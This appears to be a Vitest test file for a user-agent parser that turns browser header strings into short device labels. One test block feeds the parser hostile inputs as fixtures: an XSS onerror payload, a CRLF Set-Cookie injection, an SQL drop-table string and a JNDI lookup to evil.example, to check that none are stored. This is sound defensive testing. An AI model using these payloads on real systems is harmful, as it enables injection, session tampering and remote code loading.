import { describe, expect, test } from 'vitest';
import { browserVersionIn, deviceFromUserAgent, deviceNames } from './user-agent.ts';

const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const apple = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';

// oxfmt-ignore
test.each<[mark: string, userAgent: string]>([
  ['Chrome/Windows/142',            `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36`],
  ['Chrome/Mac/142',                `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/142.0.0.0 Safari/537.36`],
  ['Chrome/Linux/142',              `Mozilla/5.0 (X11; Linux x86_64) ${webkit} HeadlessChrome/142.0.0.0 Safari/537.36`],
  ['Chrome/Android/142',            `Mozilla/5.0 (Linux; Android 10; K) ${webkit} Chrome/142.0.0.0 Mobile Safari/537.36`],
  ['Chrome/iPhone/142',             `Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) ${apple} CriOS/142.0.0.0 Mobile/15E148 Safari/604.1`],
  ['Chrome/ChromeOS/142',           `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${webkit} Chrome/142.0.0.0 Safari/537.36`],
  ['Edge/Windows/142',              `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0`],
  ['Edge/Android/142',              `Mozilla/5.0 (Linux; Android 10; K) ${webkit} Chrome/142.0.0.0 Mobile Safari/537.36 EdgA/142.0.0.0`],
  ['Edge/iPhone/142',               `Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) ${apple} Version/18.0 EdgiOS/142.0.0.0 Mobile/15E148 Safari/604.1`],
  ['Opera/Windows/124',             `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/140.0.0.0 Safari/537.36 OPR/124.0.0.0`],
  ['Samsung Internet/Android/28',  `Mozilla/5.0 (Linux; Android 10; K) ${webkit} SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36`],
  ['Firefox/Windows/145',           'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0'],
  ['Firefox/Android/145',           'Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0'],
  ['Firefox/iPhone/145',            `Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) ${apple} FxiOS/145.0 Mobile/15E148 Safari/605.1.15`],
  ['Safari/Mac/26',                `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${apple} Version/26.0 Safari/605.1.15`],
  ['Safari/iPhone/26.1',             `Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) ${apple} Version/26.1 Mobile/15E148 Safari/604.1`],
  ['Safari/iPad/17.6',               `Mozilla/5.0 (iPad; CPU OS 17_0 like Mac OS X) ${apple} Version/17.6.1 Mobile/15E148 Safari/604.1`],
  ['/Linux',                    'Links (2.29; Linux x86_64; GNU C)'],
  ['/',                         'curl/8.10.1'],
])('%s', (mark, userAgent) => {
  expect(deviceFromUserAgent(userAgent)).toBe(mark);
});

describe('J5 the stored short form of a user agent header', () => {
  test.each<[what: string, userAgent: string | undefined]>([
    ['a missing header', undefined],
    ['an empty header', ''],
    ['markup', '<img src=x onerror=alert(1)>'],
    ['a line break', 'a\r\nSet-Cookie: sid=1'],
    ['JSON', '{"level":60}'],
    ['SQL', "'; drop table sessions; --"],
    ['a template', '${jndi:ldap://evil.example/a}'],
    ['names without versions', 'Chrome Firefox Safari Edge'],
    ['a browser’s name after 512 other characters', `${'x'.repeat(512)} Chrome/1 (Windows NT 10.0)`],
  ])('is empty for %s', (_what, userAgent) => {
    expect(deviceFromUserAgent(userAgent)).toBe('/');
  });

  test('does not contain the text around a known name', () => {
    expect(deviceFromUserAgent('<b>Chrome/1</b> (Windows NT <script>)')).toBe('Chrome/Windows/1');
  });

  test.each(['Chrome/', 'Chrome/x7', 'Chrome/12345', 'Chrome/-1'])('has no version for %s', (userAgent) => {
    expect(deviceFromUserAgent(userAgent)).toBe('Chrome/');
  });
});

test('the stored short form of a device is read back as the names that it has', () => {
  expect(deviceNames('Chrome/Windows')).toEqual({ browser: 'Chrome', system: 'Windows' });
  expect(deviceNames('Safari/iPhone/26.1')).toEqual({ browser: 'Safari', system: 'iPhone' });
  expect([browserVersionIn('Safari/iPhone/26.1'), browserVersionIn('Safari/iPhone')]).toEqual(['26.1', undefined]);
  expect(deviceNames('/Linux')).toEqual({ system: 'Linux' });
  expect(deviceNames('/')).toEqual({});
  expect(deviceNames(null)).toEqual({});
});
